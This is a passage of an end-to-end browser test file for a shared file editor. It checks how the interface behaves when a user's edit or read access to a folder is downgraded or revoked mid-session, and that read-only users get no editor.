      await page.getByRole("menuitem", { name: "Sign out" }).click();
      await page.getByRole("button", { name: "Sign in" }).waitFor();
    }
  }
  await editor(page, "a.txt").getByText("Zeven more text").waitFor();
  equal(await page.getByText("Your unsaved changes").count(), 0, "the text of before bob");
});

await scenario("what is taken away while one looks and writes", async ({ context, expect }) => {
  expect(/answer 4\d\d/);
  const ann = await user("away-ann", { folders: ["lent"] });
  const bob = await user("away-bob");
  const id = ann.folders.lent;
  await put(ann, id, "a.txt", "text\n");
  await put(ann, id, "b.txt", "one\n");
  const grant = (permissions) => must(ann, "POST", "/api/files/collections/updateAcl", {
    items: [{ id, added: permissions ? [{ entity: { type: "user", username: bob.name }, permissions }] : [], deleted: permissions ? [] : [{ type: "user", username: bob.name }] }],
  });
  await grant(["READ", "EDIT"]);
  const writes = await signIn(context, bob.name, bob.password, view(id, "a.txt"));
  await edit(writes, "a.txt");
  await writes.keyboard.type("my words ");
  const looks = await context.newPage();
  await looks.goto(view(id, "b.txt"));
  await looks.getByRole("textbox", { name: "Content of b.txt" }).getByText("one").waitFor();
  const again = (page) => page.evaluate(() => document.dispatchEvent(new Event("visibilitychange"))); // as when one comes back to it
  const mine = () => editor(writes, "a.txt").getByText("my words text").waitFor();

  await put(ann, id, "b.txt", "number two\n");
  await again(looks);
  await looks.getByText("The file has been changed.").waitFor();
  await checkAxe(looks);
  await shot(looks, "changed");
  await looks.getByRole("button", { name: "Show the new version" }).click();
  await looks.getByRole("textbox", { name: "Content of b.txt" }).getByText("number two").waitFor();

  await grant(["READ"]);
  await again(writes);
  await writes.getByText("You may only read this file now.").waitFor();
  await mine();
  await grant(null);
  await again(writes);
  await writes.getByText("This file is not there any more, or not shared with you any more.").waitFor();
  await mine();
  await checkAxe(writes);
  await shot(writes, "taken-away");
  await writes.keyboard.press("Control+s");
  await writes.getByText("Not saved: the folder of this file is not there any more, or not shared with you any more.").waitFor();
  const saved = writes.waitForEvent("download");
  await writes.getByRole("button", { name: "Save on this device" }).click();
  equal(await readFile(await (await saved).path(), "utf8"), "my words text\n");
  await again(looks);
  await looks.getByText("This file is not there any more").waitFor();
  equal(await looks.getByText("number two").count(), 0, "the text of a file that may not be seen");
  await checkAxe(looks);
  await shot(looks, "gone");
});

await scenario("who may only read gets no editor", async ({ context }) => {
  const ann = await user("read-ann", { folders: ["shown"] });
  const bob = await user("read-bob");
  const id = ann.folders.shown;
  await put(ann, id, "a.txt", "text\n");
  await must(ann, "POST", "/api/files/collections/updateAcl", { items: [{ id, added: [{ entity: { type: "user", username: bob.name }, permissions: ["READ"] }], deleted: [] }] });
  const page = await signIn(context, bob.name, bob.password, view(id, "a.txt") + "?edit=1");
  await page.getByRole("textbox", { name: "Content of a.txt" }).getByText("text").waitFor();
  await page.getByRole("button", { name: "Download" }).waitFor();
  equal(await page.getByRole("button", { name: "Edit", exact: true }).count(), 0, "edit buttons");
});
